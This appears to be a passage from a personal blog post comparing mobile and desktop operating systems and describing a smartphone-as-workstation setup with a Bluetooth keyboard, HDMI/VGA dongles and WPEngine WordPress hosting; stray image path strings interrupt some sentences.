  • Chrome OS is the most locked down desktop operating system on the market.  It’s designed to limit the user to only certain types of cloud based applications or whatever can run in the browser.  I admit that cloud based applications give the user an incredibly large array of things, but as a desktop operating system it’s a poor choice for someone who needs to install and run applications, have local files, or do any meaningful non-web related work.  Therefore it would never be an option for someone like myself.  But I do get the appeal for users who need a lightweight, cheap and powerful email and browsing platform.It’s enough to use TurboTax online and shop Amazon and for most people that’s good enough.
  • Android is the most open mobile phone OS on the market, which is odd, because their desktop environment is so closed.  This is one of the weird paradoxes of their stance on security and it makes it nearly impossible to consider Android and ChromeOS as the same family of product or even compatible beyond whatever cloud applications they tie into.  Android is comparable to iOS in terms of security, but Android third party app market places are as Old Ben Kanobi said, “the most wretched hive of scum and villainy.”  Google’s stance on privacy has always made them incompatible with my needs as a privacy/security guy and that requires a lot of work on the user’s side to correct/mitigate if they are concerned about it.  Android is really a family of phones, and therefore some software that might work on one phone perfectly may not run at all on another, which can make the app store experience frustrating.  So although Android is easily the best choice for flexibility and power, it’s lack of compatibility with a desktop OS and it’s messy third party app store/ecosystem makes it a bit of a wash.


  • OSX is a nice looking OS with relatively nice features.  It’s based on FreeBSD, which is a very robust Unix derivative that has wonderful security features.  As aresult, it is very easy to develop applications for it, and run a full feature set of software, giving you as granular access as you want – as long as you’re not publishing commercial software, which is a different story.  But as a user and producer of content, it’s a very nice operating system.  I do have a long list of issues with the usability of the OS, but it’s come a long way.
  • iOS on the other hand is basically perfect in terms of usability compared to OSX.  Literally children and pets can use it.  iOS, however, is an extremely locked down OS – similar to ChromeOS in that regard.  It has virtually no congruence with the Desktop operating system either beyond a syncing application, some of the UI elements like search and it’s “Handoff” function.  But what makes up for that is that it does have the best app store of any product in terms of safety and offerings.  There can be some compatibility issues with screen resolution in apps – particularly with newer phones until everyone adjusts.  But Apple has also made a commitment to trying to make their phones harder to break into, which is a big plus for a weary privacy advocate/business traveler.

I know I didn’t mention some esoteric phones operating systems like Firefox OS, Sailfish OS, Tizen, Ubuntu Touch, or even well known ones like Blackberry OS.  That is intentional.  For this experiment, I’ll be focused on the most common devices.

After having dozens of phones, and having plenty of opportunities to try this experiment before, the current generation of phones have all, almost accidentally become theperfect phones to attempt this experiment.  The answer of “Which smart phone is best” will end up being a matter of preference, security needs, corporate policy oversight, hardware features and possibly a matter of app capabilities.  There is no perfect phone for everyone.  But there are a lot of really excellent phones out there.

Smartphone Keyboards

The next step to increasing your ability to work efficiently is getting yourself a good keyboard.  One of my largest gripes with most modern smart phones isthat they lack a physical keyboard.

But two things have changed since the early days.  Firstly, the touch screens have gotten good enough and they keyboard layout is close enough to that of a full sized keyboard that you can get most work done.  Secondly, Bluetooth has gotten much more secure and now it’s nowhere near as dangerous as it used to be to use a Bluetooth keyboard.

Granted, I still wouldn’t use a wireless keyboard if I thought there was an adversary nearby, but thankfully, that’s not as big of a deal when you’re not travelling.  Still, it’s a worry, so I disable Bluetooth whenever I’m not using it.

So, a stand alone lightweight Bluetooth keyboard is a real option.  It gives you the flexibility to write long-form prose, program, oroperate your phone with far greater speed.  That’s what a producer of content needs – speed of throughput.  This makes using the phone a lot more viable as a full-time platform.

Bluetooth Keyboard from Omoton
This is the Bluetooth keyboard from Omoton.  It’s just around $14, and is lightweight, has multiple weeks of battery life using two AAA batteries.  It has a regular sized QUERTY keyboard interface, and most of the functions you’d expect to see of a keyboard of it’s size.  The arrow keys are strangely very useful when you’re writing, because taking your hands off they keyboard to re-position the cursor can be very slow compared to moving the arrow keys around.

This keyboard will likely not be my last. As a programming keyboard it has a lot wrong with it. Not the least of which is the lack of an escape key and like MacOS Delete is actually backspace and there is no delete key, which requires keyboard emulation.  But it does provide me with a tremendous speed advantage in creating new content.  I’d highly recommend getting something like this if you do tend to do a lot of data entry.

Consuming Vs Creating

One of the very first problems I run into when deciding whether a device is simply capable of being one for consumption or is capable of more, is knowing if it can be used in day to day operations.

Firstly, let’s say for a second that I believed that a smart phone could be leveraged in terms of CPU, memory, etc. you’d still have to overcome some major limitations on general usability.

The first issue I came across is that if I’m going to use a smart phone in my work day, I’m going to be needing a bigger monitor.  The firstoption is Airplay or Chromecast.  Sure I could do work on my couch, but like many other people, I have multiple monitors and need to be able to use multiple computers for my non-smart phone exec type work.

So the couch is out (for today) though, I’m not against the idea conceptually.  Instead, I need to use a monitor.  The easiest way I found to do this is to buy a simple HDMI adapter.

Photo of a Samsung Monitor Mirroring Me Taking A Photo With the iPhone

The HDMI adapter has two uses.  The first is that it allows you to connect to a monitor.  The second is that it allows you to connect to overhead projectors for when you need to have a meeting and display something.  Yes, your smart phone will become yourdisplay for presentations as well – all with one small little dongle that is easily shoved in your bag.

HDMI and VGA Dongles

Once you connect yourphone it still acts just like the phone would.  Touch control still works.  Vertical and Horizontal alignment affects layout of the monitor, etc.  But now you have a full sized screen and won’t have to be hunched over all day trying to read things.  Minor usability increases have a huge effect on your ability to produce new content.

Each one of these connectors can set you back around $50 or so.  Some are cheaper, especially non-certified versions.  I haven’t had any problems with any of them, but your mileage may vary.

But wait, that’s not all.  The tiny slot next to the VGA female connector also accepts an iPhone charger cable.  So you can be charging your phone while you work without using any extra cables or parts.  Pretty slick!  It all adds up.

WordPress Hosting

A customer facing exec is going to want a blog, like this one. And even if you don’t want one, you’re going to need one. Get over it. Get used to it. Get to love it. It’s your voice, your mouthpiece and your connection to the community at large.

I’ve played with a lot of self hosted CMSs, and even forked WordPress at one point. But you shouldn’t put yourself behind the eightball. You need to keep yourself light and let other people hand administration and security unless you absolutely can’t for some reason.

That’s where WPEngine comes into play. The site has a simple configuration system that can get you up in running in almost no time at all.

WPEngine Login Page
WPEngine’s Administrative Console
  1. Point DNS to the correct IP address for the site (like within Godaddy or whichever registrar you’ve chosen.
  2. Change WordPress to the new domain URL (like
  3. Update the domain settings in WPengine to reflect the new domain that you’ve chosen.4. Wait up to 30 minutes for your registrar to push the DNS settings.

And just like that, you have a blogand a conduit to your community. Pretty simple. For around $350 a year you could be up and running in just a few minutes.